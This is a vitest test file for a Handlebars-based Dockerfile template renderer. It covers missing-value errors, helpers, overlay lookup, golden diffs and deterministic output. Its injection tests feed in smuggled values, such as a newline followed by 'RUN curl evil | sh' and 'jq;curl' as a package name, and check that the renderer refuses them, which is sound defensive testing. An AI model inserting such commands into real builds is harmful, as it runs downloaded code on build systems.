import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { lintDockerfile } from "../../src/lint/lint.js";
import { describe, expect, it } from "vitest";
import { RunnerKitError } from "../../src/common/errors.js";
import { loadPlan } from "../../src/project/load.js";
import { unifiedDiff } from "../../src/render/diff.js";
import { GENERATED_MARK } from "../../src/render/header.js";
import { renderVariant, renderVariantDetailed } from "../../src/render/render.js";
import { makeProject } from "../fixtures/project/make-project.js";

/** A project with one template "t" (in the project's templates dir) and one image "app". */
async function renderT(template: string, opts: { values?: string; partials?: Record<string, string>; set?: string[] } = {}) {
  const files: Record<string, string> = {
    "runner-kit.yaml": `registry: r.example.com/p\ntemplates: tpl\nimages:\n  app:\n    template: t\n    values: ${opts.values ?? "{}"}\n`,
    "tpl/t/Dockerfile.hbs": template,
  };
  for (const [name, text] of Object.entries(opts.partials ?? {})) files[`tpl/t/${name}.hbs`] = text;
  const cwd = makeProject(files);
  const plan = await loadPlan({ cwd, set: opts.set });
  return { cwd, result: renderVariantDetailed(plan.variants[0]!) };
}

async function renderError(template: string, opts: Parameters<typeof renderT>[1] = {}): Promise<RunnerKitError> {
  const { result } = await renderT(template, opts);
  const error = await result.catch((e: unknown) => e);
  expect(error).toBeInstanceOf(RunnerKitError);
  expect((error as RunnerKitError).exitCode).toBe(2);
  return error as RunnerKitError;
}

describe("strict templates: a missing value names the file, line and name", () => {
  it("a missing value in the template", async () => {
    const e = await renderError("FROM debian:bookworm\nRUN echo {{values.nope}}\n");
    expect(e.message).toContain('missing value "values.nope"');
    expect(e.where).toMatchObject({ file: expect.stringMatching(/tpl\/t\/Dockerfile\.hbs$/), line: 2, column: 10 });
    expect(e.toParagraph()).toMatch(/Dockerfile\.hbs:2:10: template error while rendering app: missing value "values\.nope"/);
  });

  it("a missing value inside a partial names the partial file", async () => {
    const e = await renderError("FROM debian:bookworm\n{{#> sec}}\n{{/sec}}\n", { partials: { sec: "\n\nRUN {{values.gone}}\n" } });
    expect(e.where).toMatchObject({ file: expect.stringMatching(/tpl\/t\/sec\.hbs$/), line: 3, column: 5 });
    expect(e.message).toContain('missing value "values.gone"');
  });

  it("a missing block parameter and a missing helper argument", async () => {
    expect((await renderError("FROM x:1\n{{#each values.list}}{{this}}{{/each}}\n")).message).toContain('missing value "values.list"');
    expect((await renderError("FROM x:1\nRUN {{quote values.q}}\n")).message).toContain('missing value "values.q"');
  });

  it("a missing mapping on the way to a value is reported by the full name, located", async () => {
    const e = await renderError("FROM x:1\n\nLABEL a={{values.deep.er.est}}\n", { values: "{deep: {}}" });
    expect(e.message).toContain('missing value "values.deep.er.est"');
    expect(e.where).toMatchObject({ line: 3, column: 9 });
    const top = await renderError("FROM x:1\nLABEL a={{nothing.here}}\n");
    expect(top.message).toContain('missing value "nothing.here"');
  });

  it("names outside values/args/variant are caught by Handlebars strict mode, with the file", async () => {
    const e = await renderError("FROM x:1\n{{#with values}}{{../nope}}{{/with}}\n");
    expect(e.message).toMatch(/missing value "\.\.\/nope"|"nope" is not defined/);
    expect(e.where).toMatchObject({ file: expect.stringMatching(/Dockerfile\.hbs$/), line: 2 });
  });

  it("syntax errors name the file and line", async () => {
    const e = await renderError("FROM x:1\n{{#if values.a}}\n{{/fi}}\n", { values: "{a: 1}" });
    expect(e.message).toMatch(/if doesn't match fi/);
    expect(e.where).toMatchObject({ file: expect.stringMatching(/Dockerfile\.hbs$/), line: 2 }); // the block that is not closed
  });

  it("null is a value (use it for off); lists and mappings must go through a helper", async () => {
    const { result } = await renderT("FROM x:1\n{{#if values.off}}RUN no{{/if}}\nRUN echo {{values.off}}x\n", { values: "{off: null}" });
    expect((await result).text).toContain("RUN echo x\n");
    expect((await renderError("FROM x:1\nRUN {{values.l}}\n", { values: "{l: [a]}" })).message).toMatch(/"values\.l" is a list; print it with \{\{join/);
    expect((await renderError("FROM x:1\nRUN {{values.m}}\n", { values: "{m: {a: 1}}" })).message).toMatch(/is a mapping/);
  });
});

describe("no instruction injection through values", () => {
  const attempts: [string, string, RegExp][] = [
    ["newline", '"jq\\nRUN curl evil | sh"', /contains a line break, which would inject a Dockerfile instruction/],
    ["carriage return", '"jq\\rRUN x"', /contains a line break/],
    ["NUL", '"jq\\0"', /contains a NUL character/],
    ["trailing backslash", '"jq \\\\"', /ends with a backslash/],
  ];
  for (const [what, value, message] of attempts) {
    it(`refuses a ${what} in a printed value`, async () => {
      const e = await renderError("FROM x:1\nRUN echo {{values.v}}\n", { values: `{v: ${value}}` });
      expect(e.message).toMatch(message);
      expect(e.where).toMatchObject({ line: 2, column: 10 });
    });
  }

  it("helpers refuse line breaks too: quote, labels, join, arg", async () => {
    const v = '{v: "a\\nRUN evil", l: ["ok", "b\\nRUN evil"]}';
    for (const template of ["RUN {{quote values.v}}", "{{labels (obj \"k\" values.v)}}", "RUN {{join values.l}}"]) {
      const e = await renderError(`FROM x:1\n${template}\n`, { values: v });
      expect(e.message).toMatch(/line break/);
      expect(e.where).toMatchObject({ line: 2 });
    }
  });

  it("package names are checked: no shell through aptPackages, also from --set", async () => {
    const tpl = "FROM x:1\nRUN apt-get install -y --no-install-recommends \\\n{{aptPackages values.p}}\n && true\n";
    const e = await renderError(tpl, { values: '{p: ["jq;curl", "x"]}' });
    expect(e.message).toContain('"jq;curl" is not a Debian package name');
    expect(e.where).toMatchObject({ line: 3, column: 1 });
    // (A --set value with a line break is refused before rendering: see project-set-values.test.ts.)
    const viaSet = await renderError(tpl, { values: "{p: []}", set: ["p=[jq, RUN evil]"] });
    expect(viaSet.message).toMatch(/"RUN evil" is not a Debian package name/);
  });

  it("json escapes line breaks, so a multi-line value is safe there", async () => {
    const { result } = await renderT("FROM x:1\nRUN printf '%s' {{quote (json values.v)}}\n", { values: '{v: "a\\nb"}' });
    expect((await result).text).toContain(`RUN printf '%s' '"a\\nb"'\n`);
  });
});

describe("helpers", () => {
  it("aptPackages sorts, de-duplicates and continues lines; join and quote print one line", async () => {
    const tpl = [
      "FROM x:1",
      "RUN apt-get install -y --no-install-recommends \\",
      '{{aptPackages "git" values.p "bash"}}',
      " && echo {{join values.p \", \"}} {{quote values.s}} {{quote values.plain}}",
      "{{arg \"A\"}}",
      "{{arg \"B\" \"fallback value\"}}",
      '{{labels (oci title="t" version="${V}" licenses="") values.labels}}',
      "",
    ].join("\n");
    const { result } = await renderT(tpl, { values: "{p: [jq, git, curl=7.88.1-10], s: \"it's\", plain: a-b, labels: {x.y: \"q\\\"uote\"}}" });
    const text = (await result).text;
    expect(text).toContain(
      [
        "RUN apt-get install -y --no-install-recommends \\",
        "      bash \\",
        "      curl=7.88.1-10 \\",
        "      git \\",
        "      jq \\",
        " && echo jq, git, curl=7.88.1-10 'it'\\''s' a-b",
        "ARG A",
        'ARG B="fallback value"',
        'LABEL org.opencontainers.image.title=t \\',
        "      org.opencontainers.image.version=${V} \\",
        '      x.y="q\\"uote"',
      ].join("\n"),
    );
  });

  it("{{warn}} collects warnings without printing", async () => {
    const { result } = await renderT("FROM x:1\n{{#warn}}\ncareful {{values.n}}\n{{/warn}}\nRUN true\n", { values: "{n: now}" });
    const r = await result;
    expect(r.warnings).toEqual(["careful now"]);
    expect(r.text).not.toContain("careful");
  });
});

describe("lookup chain: team overlay → project templates → built-in", () => {
  const chainProject = () =>
    makeProject({
      "builtin/t/Dockerfile.hbs": "FROM builtin:1\n{{#> a}}\nRUN builtin-a\n{{/a}}\n{{#> b}}\nRUN builtin-b\n{{/b}}\n{{#> c}}\nRUN builtin-c {{values.v}}\n{{/c}}\n",
      "builtin/t/defaults.yaml": "values: {v: builtin, w: builtin}\n",
      "project/t/a.hbs": "RUN project-a\n",
      "project/t/b.hbs": "RUN project-b\n",
      "project/t/defaults.yaml": "values: {v: project}\n",
      "team/t/b.hbs": "{{> @partial-block}}\nRUN team-b {{values.w}}\n",
      "team/t/bb.hbs": "RUN typo\n",
      "runner-kit.yaml": "registry: r.example.com/p\ntemplates: project\nimages:\n  app:\n    template: t\nteams:\n  data:\n    templates: team\n",
    });

  it("each section comes from the first directory that has it; defaults merge along the chain", async () => {
    const cwd = chainProject();
    const plan = await loadPlan({ cwd, builtinDir: join(cwd, "builtin") });
    const [base, team] = await Promise.all(plan.variants.map((v) => renderVariantDetailed(v)));
    expect(base!.text.split("\n").slice(4)).toEqual(["FROM builtin:1", "RUN project-a", "RUN project-b", "RUN builtin-c project", ""]);
    // The team's b wins over the project's; {{> @partial-block}} in it is the template's own default of b.
    expect(team!.text.split("\n").slice(4)).toEqual(["FROM builtin:1", "RUN project-a", "RUN builtin-b", "RUN team-b builtin", "RUN builtin-c project", ""]);
    expect(team!.sources.partials).toMatchObject({ a: join(cwd, "project/t/a.hbs"), b: join(cwd, "team/t/b.hbs") });
  });

  it("an overlay partial that overrides no section is a warning with the nearest section", async () => {
    const cwd = chainProject();
    const plan = await loadPlan({ cwd, team: "data", builtinDir: join(cwd, "builtin") });
    const { warnings } = await renderVariantDetailed(plan.variants[0]!);
    expect(warnings).toEqual([expect.stringMatching(/team\/t\/bb\.hbs overrides no section of template "t" \(did you mean "b"\?\); sections: a, b, c/)]);
  });

  it("a project Dockerfile.hbs replaces the built-in one", async () => {
    const cwd = chainProject();
    writeFileSync(join(cwd, "project/t/Dockerfile.hbs"), "FROM project:1\n");
    const plan = await loadPlan({ cwd, images: ["app"], builtinDir: join(cwd, "builtin") });
    expect((await renderVariant(plan.variants[0]!)).split("\n")[4]).toBe("FROM project:1");
  });
});

describe("a team overriding one partial changes exactly the lines it owns", () => {
  /** The diff of data/job-base before and after dropping one partial file into the team's overlay. */
  async function overlayDiff(section: string, text: string): Promise<string> {
    const cwd = makeProject({
      "runner-kit.yaml": "registry: r.example.com/p\nimages:\n  job-base: {}\nteams:\n  data:\n    templates: teams/data\n",
      "teams/data/job-base/README": "overrides of job-base sections go here\n",
    });
    const before = await renderVariant((await loadPlan({ cwd, team: "data" })).variants[0]!);
    writeFileSync(join(cwd, `teams/data/job-base/${section}.hbs`), text);
    const after = await renderVariant((await loadPlan({ cwd, team: "data" })).variants[0]!);
    return unifiedDiff(before, after, { from: "before", to: "after" });
  }

  it("golden diff: tools.hbs keeps the default with {{> @partial-block}} and adds one line", async () => {
    expect(await overlayDiff("tools", "{{> @partial-block}}\nRUN ln -s /usr/bin/env /out/usr/local/bin/team-env\n")).toBe(
      [
        "--- before",
        "+++ after",
        "@@ -8,6 +8,7 @@",
        " # final stage, so build-only packages never reach the job image.",
        " FROM ${JOB_BASE_IMAGE} AS tools",
        " RUN mkdir -p /out/usr/local/bin",
        "+RUN ln -s /usr/bin/env /out/usr/local/bin/team-env",
        " ",
        " FROM ${JOB_BASE_IMAGE}",
        " RUN --mount=type=cache,target=/var/cache/apt,sharing=locked \\",
        "",
      ].join("\n"),
    );
  });

  it("golden diff: final-base.hbs without {{> @partial-block}} replaces exactly its line", async () => {
    expect(await overlayDiff("final-base", "FROM registry.example.com/platform/debian:bookworm\n")).toBe(
      [
        "--- before",
        "+++ after",
        "@@ -9,7 +9,7 @@",
        " FROM ${JOB_BASE_IMAGE} AS tools",
        " RUN mkdir -p /out/usr/local/bin",
        " ",
        "-FROM ${JOB_BASE_IMAGE}",
        "+FROM registry.example.com/platform/debian:bookworm",
        " RUN --mount=type=cache,target=/var/cache/apt,sharing=locked \\",
        "     --mount=type=cache,target=/var/lib/apt/lists,sharing=locked \\",
        "     rm -f /etc/apt/apt.conf.d/docker-clean \\",
        "",
      ].join("\n"),
    );
  });
});

describe("the builder in the template context", () => {
  const repoRoot = join(import.meta.dirname, "..", "..");
  it("templates see builder; the built-in ones use apt cache mounts under BuildKit and plain apt with the lists removed under classic, both lint-clean", async () => {
    const plan = await loadPlan({ cwd: repoRoot });
    for (const variant of plan.variants.filter((v) => v.template !== "runner-kit")) {
      const buildkit = await renderVariant(variant, { builder: "buildkit" });
      const classic = await renderVariant(variant, { builder: "classic" });
      expect(await renderVariant(variant)).toBe(buildkit);
      expect(buildkit).toContain("RUN --mount=type=cache,target=/var/cache/apt,sharing=locked \\\n    --mount=type=cache,target=/var/lib/apt/lists,sharing=locked \\\n    rm -f /etc/apt/apt.conf.d/docker-clean \\\n && apt-get update \\\n");
      expect(buildkit).not.toContain("rm -rf /var/lib/apt/lists");
      expect(classic).not.toContain("--mount");
      expect(classic).toMatch(/\nRUN apt-get update \\\n && apt-get install -y --no-install-recommends \\\n(?: {6}\S+ \\\n)+ && rm -rf \/var\/lib\/apt\/lists\/\*\n/);
      expect(lintDockerfile(buildkit), variant.id).toEqual([]);
      expect(lintDockerfile(classic), variant.id).toEqual([]);
    }
    const cwd = makeProject({
      "runner-kit.yaml": "registry: r.example.com/p\ntemplates: t\nimages:\n  app: {}\n",
      "t/app/Dockerfile.hbs": 'FROM busybox:1\n{{#if (eq builder "buildkit")}}\nRUN --mount=type=cache,target=/c true\n{{else}}\nRUN true\n{{/if}}\n',
    });
    const [app] = (await loadPlan({ cwd })).variants;
    expect(await renderVariant(app!, { builder: "buildkit" })).toContain("RUN --mount=type=cache,target=/c true\n");
    expect(await renderVariant(app!, { builder: "classic" })).toMatch(/\nRUN true\n$/);
  });
});

describe("values.packages install in a RUN of their own, after the base packages", () => {
  /** The built-in template's Dockerfile for one image with these values, for one builder. */
  async function builtIn(template: string, values: string, builder: "buildkit" | "classic"): Promise<string> {
    const cwd = makeProject({ "runner-kit.yaml": `registry: r.example.com/p\nimages:\n  app:\n    template: ${template}\n    values: ${values}\n` });
    return renderVariant((await loadPlan({ cwd })).variants[0]!, { builder });
  }
  const installRuns = (text: string) => text.split(/\n(?=[A-Z])/).filter((i) => i.startsWith("RUN ") && i.includes("apt-get install"));
  const forms = [
    ["job-base", ""],
    ["runner-aws", ""],
    ["runner-aws", "awsCli: { install: official }, "],
  ] as const;

  for (const [template, more] of forms) {
    for (const builder of ["buildkit", "classic"] as const) {
      it(`${template} ${more}(${builder}): adding packages leaves every earlier line as it was and adds one lint-clean RUN`, async () => {
        const none = await builtIn(template, `{ ${more}packages: [] }`, builder);
        const one = await builtIn(template, `{ ${more}packages: [jq] }`, builder);
        const two = await builtIn(template, `{ ${more}packages: [jq, tree] }`, builder);
        // The base packages' RUN (BuildKit's cache key) is byte-equal: only lines are added after it.
        const added = unifiedDiff(none, one, { from: "a", to: "b" }).split("\n").filter((l) => /^[-+][^-+]/.test(l));
        expect(added.every((l) => l.startsWith("+")), added.join("\n")).toBe(true);
        const extra = installRuns(one).at(-1)!;
        expect(extra).toMatch(/--no-install-recommends \\\n {6}jq( \\\n && rm -rf \/var\/lib\/apt\/lists\/\*)?$/);
        expect(installRuns(one).slice(0, -1).join("\n")).not.toContain("jq");
        // A second package changes only that RUN.
        expect(installRuns(two).slice(0, -1)).toEqual(installRuns(one).slice(0, -1));
        expect(installRuns(none)).toHaveLength(installRuns(one).length - 1);
        for (const text of [none, one, two]) expect(lintDockerfile(text)).toEqual([]);
        // A list given as one string (--set packages=jq) is the same list.
        expect(await builtIn(template, `{ ${more}packages: jq }`, builder)).toBe(one);
      });
    }
  }
});

describe("determinism and the header", () => {
  it("renders byte-equal text twice, starting with the generated header", async () => {
    const plan = await loadPlan({ cwd: join(import.meta.dirname, "..", "..") });
    for (const variant of plan.variants) {
      const [a, b] = [await renderVariant(variant), await renderVariant(variant)];
      expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
      expect(a.split("\n").slice(0, 2)).toEqual([GENERATED_MARK, `# template: ${variant.template}, variant: ${variant.id}`]);
      expect(a.endsWith("\n") && !a.endsWith("\n\n")).toBe(true);
    }
  });

  it("diffs equal texts as empty", () => {
    expect(unifiedDiff("a\n", "a\n", { from: "x", to: "y" })).toBe("");
  });
});
